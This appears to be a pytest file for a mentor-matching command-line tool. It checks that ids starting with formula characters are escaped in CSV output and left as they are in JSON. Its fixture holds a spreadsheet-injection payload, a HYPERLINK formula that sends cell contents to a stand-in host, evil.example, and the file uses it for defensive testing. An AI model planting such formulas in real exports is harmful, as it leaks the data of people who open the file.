"""The command line's plan and pair files are formula-safe: an id such as =HYPERLINK(...) arrives as text."""

import csv
import json

from stafet.matching.cli import main
from stafet.sheets import FORMULA_STARTS

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PARTICIPANTS = (
    "id,municipality,languages,occupations,industry\n"
    f'"{PAYLOAD.replace(chr(34), chr(34) * 2)}",0101,da:B2|en:C1,2512:6,J\n'
    "@unmatched,0101,da:B2,2512:6,J\n"
)
MENTORS = (
    "id,lat,lng,site,languages,occupation,industry,capacity,trained\n+m1,55.77,12.50,Lyngby,da:native,2512,J,1,yes\n"
)


def test_formula_ids_are_neutralised_in_the_csv_plan_and_pairs(tmp_path):
    (tmp_path / "p.csv").write_text(PARTICIPANTS, encoding="utf-8")
    (tmp_path / "m.csv").write_text(MENTORS, encoding="utf-8")
    plan, pairs = tmp_path / "plan.csv", tmp_path / "pairs.csv"
    args = ["--participants", str(tmp_path / "p.csv"), "--mentors", str(tmp_path / "m.csv"), "-q"]
    assert main([*args, "-o", str(plan), "--all-pairs", str(pairs)]) == 0
    rows = list(csv.DictReader(plan.open(encoding="utf-8")))
    assert {(r["participant_id"], r["provider_id"], r["status"]) for r in rows} == {
        ("'" + PAYLOAD, "'+m1", "matched"),
        ("'@unmatched", "", "unmatched"),
    }
    matched = next(r for r in rows if r["status"] == "matched")
    assert float(matched["score"]) > 0  # numbers stay numbers
    written = [c for path in (plan, pairs) for row in csv.reader(path.open(encoding="utf-8")) for c in row]
    assert not [c for c in written if c.startswith(FORMULA_STARTS) and not c.lstrip("+-").replace(".", "").isdigit()]
    # JSON is not a spreadsheet: the ids stay as they were.
    assert main([*args, "-o", str(tmp_path / "plan.json")]) == 0
    ids = {r["participant_id"] for r in json.loads((tmp_path / "plan.json").read_text())["result"]["rows"]}
    assert ids == {PAYLOAD, "@unmatched"}
